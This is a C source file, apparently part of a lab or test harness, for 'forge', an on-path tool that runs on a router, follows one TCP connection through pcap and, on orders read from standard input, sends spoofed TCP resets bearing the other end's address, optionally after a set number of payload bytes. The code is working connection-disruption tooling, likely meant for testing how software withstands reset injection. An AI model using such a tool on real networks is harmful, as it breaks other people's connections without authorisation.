/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * forge: an on-path forger of TCP resets.
 *
 * It runs on a router, follows one connection on one of its interfaces, and when told so on standard
 * input sends resets that bear the other end's address. It drops and delays nothing: as a real one
 * it can only be quick. So one thread does all, and a trigger fires while the packet that pulled it
 * is being looked at.
 *
 * Each order is answered by a line for each reset sent and then `done`, or by `error: WHY`.
 */
#include <arpa/inet.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "base/clock.h"
#include "samples/lab/forge_ears.h"
#include "samples/lab/forge_flow.h"
#include "samples/lab/forge_order.h"
#include "samples/lab/forge_reset.h"

#define TRIGGER_LIMIT_NS (20 * NS_PER_S)
#define TEXT_MAX 1024

struct forge {
	struct flow flow;
	struct libnet_context *net;
	struct ears ears;
	struct order order;
	bool waiting;      /* for the order's trigger; then the next two hold */
	uint64_t fires_at; /* payload bytes of the claimed senders */
	int64_t gives_up_ns;
};

static const char *const end_names[] = { "client", "server" };

static int64_t now_ns(clockid_t clock)
{
	struct timespec t;

	clock_gettime(clock, &t);
	return t.tv_sec * NS_PER_S + t.tv_nsec;
}

/* libnet ends its messages with a newline; ours must not break the protocol of lines. */
static void answer_error(const char *why)
{
	printf("error: %.*s\n", (int)strcspn(why, "\n"), why);
	fflush(stdout);
}

static void answer(const char *last_line)
{
	puts(last_line);
	fflush(stdout);
}

/* The time is taken before the packet leaves: no capture can show it earlier. */
static const char *send_one(struct forge *forge, enum end to, struct reset *reset)
{
	int64_t at = now_ns(CLOCK_REALTIME);
	const char *why = reset_send(forge->net, reset);

	if (why == NULL)
		printf("sent to=%s seq=%u ack=%u ttl=%u time=%lld.%09lld\n", end_names[to],
		       (unsigned)reset->seq, (unsigned)reset->ack, (unsigned)reset->ttl,
		       (long long)(at / NS_PER_S), (long long)(at % NS_PER_S));
	reset_advance(reset);
	return why;
}

static void pause_us(int64_t us)
{
	struct timespec t = { .tv_sec = us / 1000000, .tv_nsec = us % 1000000 * NS_PER_US };

	if (us != 0)
		nanosleep(&t, NULL);
}

/* All is planned before anything is sent: an order is carried out for both ends or not at all. */
static void fire(struct forge *forge)
{
	const struct order *order = &forge->order;
	struct reset reset[2];
	const char *why = NULL;

	for (enum end to = CLIENT; to <= SERVER && why == NULL; to++) {
		if (order->to[to])
			why = reset_plan(&forge->flow, order, to, &reset[to]);
	}
	for (int64_t i = 0; i < order->count && why == NULL; i++) {
		if (i != 0)
			pause_us(order->gap_us);
		for (enum end to = CLIENT; to <= SERVER && why == NULL; to++) {
			if (order->to[to])
				why = send_one(forge, to, &reset[to]);
		}
	}
	if (why != NULL)
		answer_error(why);
	else
		answer("done");
}

/* Of a reset to both ends, both are the claimed senders. */
static uint64_t senders_payload(const struct forge *forge)
{
	return (forge->order.to[CLIENT] ? forge->flow.payload[SERVER] : 0) +
	       (forge->order.to[SERVER] ? forge->flow.payload[CLIENT] : 0);
}

static void see(struct forge *forge, const struct pcap_pkthdr *header, const uint8_t *frame,
		bool leaving)
{
	if (header->caplen < forge->ears.link_len)
		return;
	flow_see(&forge->flow, frame + forge->ears.link_len, header->caplen - forge->ears.link_len,
		 leaving);
	if (forge->waiting && senders_payload(forge) >= forge->fires_at) {
		forge->waiting = false;
		fire(forge);
	}
}

static void see_arriving(u_char *forge, const struct pcap_pkthdr *header, const u_char *frame)
{
	see((struct forge *)forge, header, frame, false);
}

static void see_leaving(u_char *forge, const struct pcap_pkthdr *header, const u_char *frame)
{
	see((struct forge *)forge, header, frame, true);
}

/* False, and said, when the interface is gone. */
static bool listen_to_all(struct forge *forge)
{
	static const pcap_handler see_way[] = { see_arriving, see_leaving };

	for (enum way way = ARRIVING; way <= LEAVING; way++) {
		if (pcap_dispatch(forge->ears.way[way], -1, see_way[way], (u_char *)forge) < 0) {
			fprintf(stderr, "forge: %s\n", pcap_geterr(forge->ears.way[way]));
			return false;
		}
	}
	return true;
}

static void take_order(struct forge *forge, char *line)
{
	char buffer[TEXT_MAX];
	struct text why = text_in(buffer, sizeof(buffer));

	if (!order_read(line, &forge->order, &why)) {
		answer_error(buffer);
	} else if (forge->order.trigger == 0) {
		fire(forge);
	} else {
		forge->waiting = true;
		forge->fires_at = senders_payload(forge) + (uint64_t)forge->order.trigger;
		forge->gives_up_ns = now_ns(CLOCK_MONOTONIC) + TRIGGER_LIMIT_NS;
	}
}

/* Standard input is not buffered, so what poll() says of it is all there is. False at its end. */
static bool read_order(struct forge *forge)
{
	char *line = NULL;
	size_t size = 0;
	ssize_t len = getline(&line, &size, stdin);

	if (len >= 0 && strlen(line) != (size_t)len)
		answer_error("a line of text has no NUL in it");
	else if (len >= 0)
		take_order(forge, line);
	free(line);
	return len >= 0;
}

static int poll_ms(const struct forge *forge)
{
	int64_t left = forge->gives_up_ns - now_ns(CLOCK_MONOTONIC);

	if (!forge->waiting)
		return -1;
	return left > 0 ? (int)(left / NS_PER_MS) + 1 : 0;
}

static void give_up_in_time(struct forge *forge)
{
	if (!forge->waiting || now_ns(CLOCK_MONOTONIC) < forge->gives_up_ns)
		return;
	forge->waiting = false;
	puts("timeout");
	answer("done");
}

/* What has passed is looked at before each order; while one waits for its trigger, none is read. */
static int run(struct forge *forge)
{
	struct pollfd fds[] = {
		{ .fd = pcap_get_selectable_fd(forge->ears.way[ARRIVING]), .events = POLLIN },
		{ .fd = pcap_get_selectable_fd(forge->ears.way[LEAVING]), .events = POLLIN },
		{ .events = POLLIN },
	};

	for (;;) {
		fds[2].fd = forge->waiting ? -1 : STDIN_FILENO;
		if (poll(fds, 3, poll_ms(forge)) < 0)
			return 1;
		if (!listen_to_all(forge))
			return 1;
		give_up_in_time(forge);
		if (!forge->waiting && fds[2].revents != 0 && !read_order(forge))
			return 0;
	}
}

static int usage(FILE *out)
{
	char buffer[TEXT_MAX];
	struct text keys = text_in(buffer, sizeof(buffer));

	order_help(&keys);
	fprintf(out,
		"usage: forge IFACE CLIENT CLIENT_PORT SERVER SERVER_PORT\n"
		"then on standard input: client|server|both [KEY=VALUE...], KEY=VALUE being\n%s",
		buffer);
	return out == stdout ? 0 : 2;
}

static bool read_address(const char *ip, const char *port, struct address *address)
{
	char *end;
	long number = strtol(port, &end, 10);

	address->family = strchr(ip, ':') != NULL ? AF_INET6 : AF_INET;
	address->port = (uint16_t)number;
	return inet_pton(address->family, ip, address->ip) == 1 && *end == '\0' && number > 0 &&
	       number <= UINT16_MAX;
}

static int listen_and_run(struct forge *forge, const char *iface)
{
	char buffer[TEXT_MAX];
	struct text why = text_in(buffer, sizeof(buffer));
	int status = 1;

	forge->net = reset_open(forge->flow.address[CLIENT].family, &why);
	if (forge->net == NULL || !ears_open(&forge->ears, iface, forge->flow.address, &why)) {
		fprintf(stderr, "forge: %s\n", buffer);
	} else {
		answer("ready");
		status = run(forge);
	}
	ears_close(&forge->ears);
	if (forge->net != NULL)
		reset_close(forge->net);
	return status;
}

int main(int argc, char **argv)
{
	static struct forge forge;
	struct address *address = forge.flow.address;

	if (argc == 2 && strcmp(argv[1], "--help") == 0)
		return usage(stdout);
	if (argc != 6 || !read_address(argv[2], argv[3], &address[CLIENT]) ||
	    !read_address(argv[4], argv[5], &address[SERVER]) ||
	    address[CLIENT].family != address[SERVER].family)
		return usage(stderr);
	setvbuf(stdin, NULL, _IONBF, 0);
	return listen_and_run(&forge, argv[1]);
}
